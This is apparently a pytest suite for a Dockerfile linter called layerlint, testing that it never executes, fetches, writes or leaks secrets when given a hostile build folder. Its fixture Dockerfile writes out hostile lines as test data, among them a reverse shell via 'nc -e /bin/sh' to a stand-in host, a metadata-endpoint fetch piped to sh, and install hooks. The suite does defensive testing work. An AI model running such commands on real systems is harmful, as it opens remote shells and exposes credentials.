"""What a lint must never do, whatever is in the folder: hang, run, fetch, read outside, write, tell a secret."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from tests.shared import CHECKOUT

AUDIT = """
import json, os, sys
seen = []
def watch(event, arguments):
    if event in WATCHED:
        mode = str(arguments[1]) if len(arguments) > 1 else ""
        if event == "open" and arguments[1] is None and arguments[2] & (os.O_WRONLY | os.O_RDWR | os.O_CREAT):
            mode = "w"
        seen.append([event, str(arguments[0]), mode])
WATCHED = {
    "os.exec", "os.fork", "os.forkpty", "os.kill", "os.posix_spawn", "os.spawn", "os.system", "pty.spawn",
    "subprocess.Popen", "socket.__new__", "socket.connect", "socket.getaddrinfo", "socket.sendto", "urllib.Request",
    "open", "os.remove", "os.rename", "os.mkdir", "os.rmdir", "os.chmod", "os.chown", "os.link", "os.symlink",
    "os.truncate", "os.utime", "shutil.rmtree", "shutil.copyfile",
}
sys.addaudithook(watch)
from layerlint.cli import main
code = main(json.loads(sys.argv[1]))
found = list(seen)
with open(sys.argv[2], "w") as stream:
    json.dump({"code": code, "seen": found}, stream)
"""

HOSTILE = """\
# syntax=example.org/evil/frontend:1
FROM python:3.12-slim AS build
ADD https://example.org/a.tar.gz /a/
ADD git@example.org:x/y.git /y
RUN --mount=type=bind,source=.,target=/mnt curl http://169.254.169.254/ | sh; touch /tmp/layerlint-was-here
RUN $(touch /tmp/layerlint-was-here) `id` && eval "id" && python3 -c 'import os; os.system("id")'
RUN <<EOF bash
nc -e /bin/sh example.org 4444
EOF
COPY link ../up secret.env requirements.txt package.json /app/
RUN pip install -r /app/requirements.txt && cd /app && npm ci
FROM scratch
COPY --from=build / /
COPY --from=example.org/evil /x /x
"""


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    root = tmp_path / "context"
    root.mkdir()
    (root / "Dockerfile").write_text(HOSTILE)
    (tmp_path / "outside").write_text("OUTSIDE")
    (root / "link").symlink_to(tmp_path / "outside")
    (root / "loop").symlink_to("loop")
    (root / "up").symlink_to("../..")
    (root / "secret.env").write_text("TOKEN=hunter2hunter2\n")
    (root / "requirements.txt").write_text("-r ../outside\n-r link\n-i http://example.org/\nflask\n-e .\n./up\n")
    (root / "setup.py").write_text("import os; os.system('touch /tmp/layerlint-was-here')\n")
    (root / "package.json").write_text('{"scripts": {"preinstall": "touch /tmp/layerlint-was-here"}}')
    return root


def _ran(folder: Path, *arguments: str) -> tuple[dict[str, object], str]:
    told = folder.with_name("told.json")
    ran = subprocess.run(
        [sys.executable, "-c", AUDIT, json.dumps(arguments), str(told)],
        cwd=folder, capture_output=True, text=True, timeout=120, check=False,
        env={**os.environ, "PYTHONPATH": str(CHECKOUT), "PYTHONDONTWRITEBYTECODE": "1"},
    )  # fmt: skip
    assert ran.returncode == 0, ran.stderr
    return json.loads(told.read_text()), ran.stdout + ran.stderr


@pytest.mark.parametrize(
    "arguments",
    [
        ("check", "--shellcheck", "off", "."),
        ("check", "--shellcheck", "off", "--profile", "strict", "--format", "json", "."),
        ("layers", "--changes", "."),
        ("graph", "."),
        ("explain", "rootfs", "Dockerfile"),
        ("explain", "--line", "11", "Dockerfile"),
    ],
    ids=lambda arguments: " ".join(arguments),
)
def test_nothing_is_run_fetched_or_written(arguments: tuple[str, ...], folder: Path) -> None:
    told, _ = _ran(folder, *arguments)
    assert told["code"] in (0, 1)
    outside = []
    for event, first, second in told["seen"]:  # type: ignore[attr-defined]
        assert event == "open", (event, first, second)
        assert not set(second) & set("wax+"), f"{first} is opened for writing"
        if first.isdigit() or first == os.devnull:
            continue
        path = Path(os.path.realpath(folder / first))
        allowed = (folder, CHECKOUT / "layerlint", CHECKOUT / "rules", Path(sys.prefix), Path(sys.base_prefix))
        if not any(path.is_relative_to(os.path.realpath(each)) for each in allowed):
            outside.append(path)
    assert not [path for path in outside if path.suffix not in (".so", ".py", ".pyc", ".pth")]
    assert not Path("/tmp/layerlint-was-here").exists()


def test_what_is_kept_for_another_run_is_written_to_the_users_cache_alone(
    folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cache = tmp_path / "cache"
    monkeypatch.delenv("LAYERLINT_NO_CACHE")
    monkeypatch.setenv("LAYERLINT_CACHE_DIR", str(cache))

    def written(*arguments: str) -> list[Path]:
        told, _ = _ran(folder, "check", "--shellcheck", "off", *arguments)
        seen = [
            Path(first)
            for event, first, second in told["seen"]  # type: ignore[attr-defined]
            if (event != "open" or set(second) & set("wax+")) and not first.isdigit()
        ]
        return [path for path in seen if path != Path(os.devnull)]

    assert written("--no-cache", ".") == []
    assert not cache.exists()
    first = written(".")
    assert first
    assert all(path.is_relative_to(cache) for path in first)
    kept = b"".join(path.read_bytes() for path in cache.rglob("*") if path.is_file())
    assert kept
    for secret in (b"hunter2", b"OUTSIDE", b"scripts"):
        assert secret not in kept
    assert written(".") == [], "what is served is not written again"


def test_no_value_of_a_secret_and_nothing_from_outside_is_told(folder: Path) -> None:
    for arguments in (
        ("check", "--shellcheck", "off", "--profile", "strict", "."), ("layers", "--changes", "-v", ".")
    ):  # fmt: skip
        _, said = _ran(folder, *arguments)
        assert "hunter2" not in said
        assert "OUTSIDE" not in said


SPECIAL = (
    ".dockerignore", ".hadolint.yaml", ".layerlint.yaml", "Dockerfile.dockerignore", "Pipfile", "Pipfile.lock", "a.tar",
    "composer.json", "environment.yml", "go.mod", "go.sum", "package-lock.json", "package.json", "poetry.lock",
    "pom.xml", "pyproject.toml", "requirements.txt", "run.sh", "setup.py", "uv.lock", "yarn.lock",
)  # fmt: skip
READERS = f"""\
FROM python:3.12
WORKDIR /w
COPY {" ".join(SPECIAL[4:])} ./
ADD a.tar /a
RUN pip install -r requirements.txt && poetry install && uv sync && pipenv install
RUN conda env create -f environment.yml
RUN npm ci && yarn install && composer install && go mod download && mvn package && ./run.sh && . ./run.sh
RUN for i in *; do cat $i >/all; done; sed -i s/a/b/ run.sh; tar xf a.tar
"""


@pytest.mark.parametrize("kind", ["fifo", "folder", "loop", "device", "unreadable", "binary"])
def test_files_that_are_none(kind: str, tmp_path: Path) -> None:
    """Each name that is read is a thing that blocks, fails or lies."""
    (tmp_path / "Dockerfile").write_text(READERS)
    for name in SPECIAL:
        path = tmp_path / name
        match kind:
            case "fifo":
                os.mkfifo(path)
            case "folder":
                path.mkdir()
            case "loop":
                path.symlink_to(name)
            case "device":
                path.symlink_to("/dev/zero")
            case "unreadable":
                path.write_text("x")
                path.chmod(0)
            case _:
                path.write_bytes(bytes(range(256)) * 300)
    for verb in ("check", "layers"):
        ran = subprocess.run(
            [sys.executable, "-m", "layerlint", verb, "Dockerfile"], capture_output=True, text=True, timeout=60,
            cwd=tmp_path, env={**os.environ, "PYTHONPATH": str(CHECKOUT)}, check=False,
        )  # fmt: skip
        assert ran.returncode in (0, 1, 2), ran.stderr
        assert "Traceback" not in ran.stderr
        assert "bug of layerlint" not in ran.stderr


CHANGING = """
import json, os, shutil, sys
here, outside, kind = os.getcwd(), sys.argv[2], sys.argv[3]
changed = []
def change(event, arguments):
    if event != "open" or not isinstance(arguments[0], (str, bytes)):
        return
    path = os.path.abspath(os.fsdecode(arguments[0]))
    if path in changed or os.path.dirname(path) != here or not os.path.isfile(path):
        return
    if path.endswith(("/Dockerfile", "/pyproject.toml")):
        return
    changed.append(path)
    if kind != "grown":
        os.unlink(path)
    match kind:
        case "folder": os.mkdir(path)
        case "fifo": os.mkfifo(path)
        case "link": os.symlink(outside, path)
        case "grown":
            with open(path, "ab") as stream:
                stream.write(b"OUTSIDE" * 200_000)
sys.addaudithook(change)
from layerlint.cli import main
code = main(json.loads(sys.argv[1]))
sys.stdout.flush()
print("changed", len(changed), "code", code, file=sys.stderr)
"""


def _changing(root: Path) -> None:
    root.mkdir()
    for name in SPECIAL:
        if not name.endswith(".yaml"):  # of a configuration every fault is told
            (root / name).write_text("x = 1\n")
    with tarfile.open(root / "a.tar", "w") as archive:
        archive.add(root / "run.sh", "run.sh")
    shutil.make_archive(str(root / "b"), "zip", root, "run.sh")
    (root / "prod.env").write_text("TOKEN=x\n")
    (root / "test.env").write_text("TOKEN=x\n")
    more = "COPY b.zip prod.env test.env /etc/\nRUN unzip /etc/b.zip && cat /etc/prod.env >/all\n"
    (root / "Dockerfile").write_text(READERS + more)


@pytest.mark.parametrize("kind", ["gone", "folder", "fifo", "link", "grown"])
@pytest.mark.parametrize("verb", ["check", "layers", "base"])
def test_files_that_change_between_listing_and_reading(verb: str, kind: str, tmp_path: Path) -> None:
    """Each file but the Dockerfile is another thing, or larger, at the moment at which it is opened."""
    _changing(tmp_path / "context")
    (tmp_path / "outside").write_text("TOKEN=hunter2hunter2\nOUTSIDE\n" * 50)
    ran = subprocess.run(
        [sys.executable, "-c", CHANGING, json.dumps([verb, "-v", "Dockerfile"]), str(tmp_path / "outside"), kind],
        cwd=tmp_path / "context", env={**os.environ, "PYTHONPATH": str(CHECKOUT)},
        capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert ran.returncode == 0, ran.stderr
    assert "Traceback" not in ran.stderr
    assert "bug of layerlint" not in ran.stderr
    assert "OUTSIDE" not in ran.stdout + ran.stderr
    assert "hunter2" not in ran.stdout + ran.stderr
    changed, code = map(int, re.findall(r"changed (\d+) code ([012])$", ran.stderr.strip())[0])
    assert changed > 3
    assert code in (0, 1)


def test_a_dockerfile_that_becomes_a_folder_is_told(tmp_path: Path) -> None:
    (tmp_path / "Dockerfile").write_text("FROM scratch\n")
    (tmp_path / "b.Dockerfile").write_text("FROM scratch\nUSER 1\n")
    program = CHANGING.replace('path.endswith(("/Dockerfile", "/pyproject.toml"))', 'not path.endswith("/Dockerfile")')
    ran = subprocess.run(
        [sys.executable, "-c", program, json.dumps(["check", "."]), "", "folder"],
        cwd=tmp_path, env={**os.environ, "PYTHONPATH": str(CHECKOUT)},
        capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert "Dockerfile: cannot be read: Is a directory\n" in ran.stderr
    assert ran.stderr.endswith("changed 1 code 2\n")
    assert "1 file" in ran.stdout or "b.Dockerfile" in ran.stdout


def test_folders_that_may_not_be_read_are_told(tmp_path: Path) -> None:
    (tmp_path / "Dockerfile").write_text("FROM scratch\nCOPY . /\nCOPY shut/* /x/\n")
    shut = tmp_path / "shut"
    shut.mkdir()
    (shut / "file").write_text("x" * 1000)
    shut.chmod(0)
    words = [sys.executable, "-m", "layerlint", "layers", "-v", "Dockerfile"]
    if os.geteuid() == 0:
        program = shutil.which("setpriv")
        if program is None:
            pytest.skip("root may read all, and there is no setpriv to take that away")
        words = [program, "--bounding-set=-dac_override,-dac_read_search", "--inh-caps=-all", *words]
    try:
        ran = subprocess.run(
            words, cwd=tmp_path, env={**os.environ, "PYTHONPATH": str(CHECKOUT), "PYTHONDONTWRITEBYTECODE": "1"},
            capture_output=True, text=True, timeout=120, check=False,
        )  # fmt: skip
    finally:
        shut.chmod(0o755)
    assert (ran.returncode, ran.stderr) == (0, "")
    assert "shut of the build context cannot be read: Permission denied" in ran.stdout


def test_a_context_of_loops_and_100_000_names_that_are_deep(tmp_path: Path) -> None:
    """Symlinks to the folder above, and as many entries, below folders as deep as the system lets them be."""
    (tmp_path / "Dockerfile").write_text("FROM scratch\nCOPY . /\nCOPY loop/loop/loop/d* loop/* up/up/x /x/\n")
    (tmp_path / "loop").symlink_to(".")
    (tmp_path / "up").symlink_to("../" + tmp_path.name)
    (tmp_path / "a").symlink_to("b")
    (tmp_path / "b").symlink_to("a")
    here = os.open(tmp_path, os.O_RDONLY)
    for depth in range(400):
        name = f"d{depth:03}" + "n" * 40
        os.mkdir(name, dir_fd=here)
        os.symlink("..", "loop-here", dir_fd=here)
        for number in range(250):
            os.symlink("x", f"{number:03}", dir_fd=here)
        below = os.open(name, os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = below
    os.close(here)
    ran = subprocess.run(
        [sys.executable, "-m", "layerlint", "layers", "-v", "Dockerfile"], cwd=tmp_path,
        env={**os.environ, "PYTHONPATH": str(CHECKOUT)}, capture_output=True, text=True, timeout=300, check=False,
    )  # fmt: skip
    subprocess.run(["rm", "-rf", str(tmp_path / ("d000" + "n" * 40))], check=True)  # too deep for shutil
    assert ran.returncode == 0, ran.stderr
    assert ran.stderr == ""
    said = " ".join(ran.stdout.split())
    assert re.search(r"note: d000n\S+ of the build context cannot be read: File name too long", said), said


def test_a_full_disk_leaves_what_was_there(tmp_path: Path) -> None:
    if not Path("/dev/full").exists():
        pytest.skip("no /dev/full here")
    (tmp_path / "Dockerfile").write_text("FROM scratch\n")
    env = {**os.environ, "PYTHONPATH": str(CHECKOUT)}
    words = [sys.executable, "-m", "layerlint", "layers", "Dockerfile", "-o"]
    ran = subprocess.run([*words, "/dev/full"], cwd=tmp_path, env=env, capture_output=True, text=True, check=False)
    assert ran.returncode == 2
    assert ran.stderr == "layerlint: --output: /dev/full cannot be written: No space left on device\n"
    limited = f"ulimit -f 0; exec {sys.executable} -m layerlint layers Dockerfile -o out"
    (tmp_path / "out").write_text("before")
    ran = subprocess.run(["bash", "-c", limited], cwd=tmp_path, env=env, capture_output=True, text=True, check=False)
    assert (tmp_path / "out").read_text() == "before"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["Dockerfile", "out"]
    assert ran.returncode == 2, ran.stderr
    assert "cannot be written" in ran.stderr
